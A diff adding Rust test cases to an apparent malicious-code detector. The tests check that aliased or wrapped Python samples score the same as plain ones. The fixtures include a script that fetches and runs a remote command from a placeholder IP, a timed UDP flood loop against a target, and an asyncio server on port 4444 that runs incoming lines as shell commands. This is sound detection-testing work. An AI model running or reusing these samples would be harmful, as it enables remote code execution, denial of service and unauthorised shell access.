@@ -117,3 +117,120 @@ run()
     assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+const FETCHED_COMMAND: &str = r#"import subprocess
+import urllib.request
+def fetch(u):
+    return urllib.request.urlopen(u).read().decode()
+cmd = fetch("http://203.0.113.9/cmd")
+subprocess.run(cmd, shell=True)
+"#;
+
+/// What a call through the helper returns is what the function returns:
+/// a command fetched by a function of the script's own, called through it.
+#[test]
+fn pass_through_helper_returns_what_the_function_returns() {
+    let wrapped = r#"import subprocess
+import urllib.request
+def _call(fn, *args, **kwargs):
+    return fn(*args, **kwargs)
+def fetch(u):
+    return urllib.request.urlopen(u).read().decode()
+cmd = _call(fetch, "http://203.0.113.9/cmd")
+_call(subprocess.run, cmd, shell=True)
+"#;
+    assert_same(FETCHED_COMMAND, wrapped);
+    // Control: the helper returning a constant of the script's own.
+    let constant = r#"import subprocess
+def _call(fn, *args, **kwargs):
+    return fn(*args, **kwargs)
+def version():
+    return "git --version"
+subprocess.run(_call(version), shell=True)
+"#;
+    let a = run(constant);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
+
+/// A loop that sends until a deadline read from the clock under another
+/// name (`now = time.time`, `getattr(time, "time")`) is the same flood.
+#[test]
+fn clock_under_another_name_bounds_the_flood() {
+    let plain = r#"import socket
+import time
+def flood(target, seconds):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    end = time.time() + seconds
+    while time.time() < end:
+        s.sendto(b"x" * 1024, (target, 80))
+flood("203.0.113.5", 60)
+"#;
+    let aliased = plain
+        .replace("import time\n", "import time\nnow = time.time\n")
+        .replace("time.time()", "now()");
+    assert_same(plain, &aliased);
+    let by_getattr = plain.replace("time.time()", "getattr(time, 'time')()");
+    assert_same(plain, &by_getattr);
+    // Control: the same loop waiting a second between sends.
+    let paced = aliased.replace("(target, 80))\n", "(target, 80))\n        time.sleep(1)\n");
+    let a = run(&paced);
+    assert!(!rules(&a).contains(&"MB927"), "{:?}", a.findings);
+}
+
+const STREAM_SHELL: &str = r#"import asyncio
+import subprocess
+async def handle(reader, writer):
+    line = await reader.readline()
+    writer.write(subprocess.getoutput(line.decode()).encode())
+async def main():
+    server = await asyncio.start_server(handle, "0.0.0.0", 4444)
+    await server.serve_forever()
+asyncio.run(main())
+"#;
+
+/// A stream server started under another name still hands each
+/// connection's data to its callback.
+#[test]
+fn stream_server_under_another_name() {
+    let aliased = STREAM_SHELL
+        .replace(
+            "import subprocess\n",
+            "import subprocess\nlisten = asyncio.start_server\n",
+        )
+        .replace("asyncio.start_server(", "listen(");
+    assert_same(STREAM_SHELL, &aliased);
+    // Control: an echo server under the alias runs nothing.
+    let echo = aliased.replace("subprocess.getoutput(line.decode()).encode()", "line");
+    let a = run(&echo);
+    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
+}
+
+/// `asyncio.to_thread` under another name returns what the function it
+/// runs returns.
+#[test]
+fn to_thread_under_another_name() {
+    let plain = r#"import asyncio
+import subprocess
+import urllib.request
+def fetch(u):
+    return urllib.request.urlopen(u).read().decode()
+async def agent():
+    cmd = await asyncio.to_thread(fetch, "http://203.0.113.9/cmd")
+    subprocess.run(cmd, shell=True)
+asyncio.run(agent())
+"#;
+    let aliased = plain
+        .replace(
+            "import urllib.request\n",
+            "import urllib.request\nin_thread = asyncio.to_thread\n",
+        )
+        .replace("asyncio.to_thread(", "in_thread(");
+    assert_same(plain, &aliased);
+    // Control: the thread returns a constant.
+    let constant = aliased.replace(
+        "return urllib.request.urlopen(u).read().decode()",
+        "return 'uptime'",
+    );
+    let a = run(&constant);
+    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
+}
